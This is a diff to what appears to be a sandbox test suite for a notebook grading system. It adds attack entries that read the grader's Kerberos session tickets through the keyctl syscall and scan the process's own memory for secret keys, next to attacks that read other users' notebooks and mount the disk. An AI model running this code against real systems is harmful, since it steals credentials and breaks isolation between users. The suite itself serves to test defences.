@@ -117,6 +117,30 @@ from pathlib import Path
 for place in Path("others").rglob("*.ipynb"):
     print([line for line in place.read_text().splitlines() if "written by" in line])
 """, loot="of others", hand_in=link_to_folder),
+    Attack("read-session-keys", "read the keys of the grader's session: tickets of Kerberos", """
+import ctypes, platform
+call, number = ctypes.CDLL(None).syscall, 250 if platform.machine() == "x86_64" else 219
+key = call(number, 10, ctypes.c_long(-3), b"user", b"labsim-ticket", 0)  # search, in the session's
+text = ctypes.create_string_buffer(100)
+call(number, 11, key, text, 100)  # read
+print(key, text.value)
+""", loot="of the session"),
+    Attack("read-own-memory", "look for keys in the memory the kernel was forked with", """
+import re
+piece = P["key_begins"].encode()
+found = set()
+with open("/proc/self/mem", "rb", 0) as memory:
+    for line in open("/proc/self/maps"):
+        start, end, rights = re.match(r"(\\w+)-(\\w+) (\\S+)", line).groups()
+        if rights.startswith("rw") and int(end, 16) - int(start, 16) < 5e8:
+            try:
+                memory.seek(int(start, 16))
+                text = memory.read(int(end, 16) - int(start, 16))
+                found |= set(re.findall(piece + b"[0-9a-f]{52}", text))
+            except OSError:
+                pass
+print("keys:", found)
+""", loot="secret key", stock=False),
     Attack("mount-disk", "see the whole disk: mount, new namespaces, device files", """
 import ctypes, os
 libc = ctypes.CDLL(None, use_errno=True)
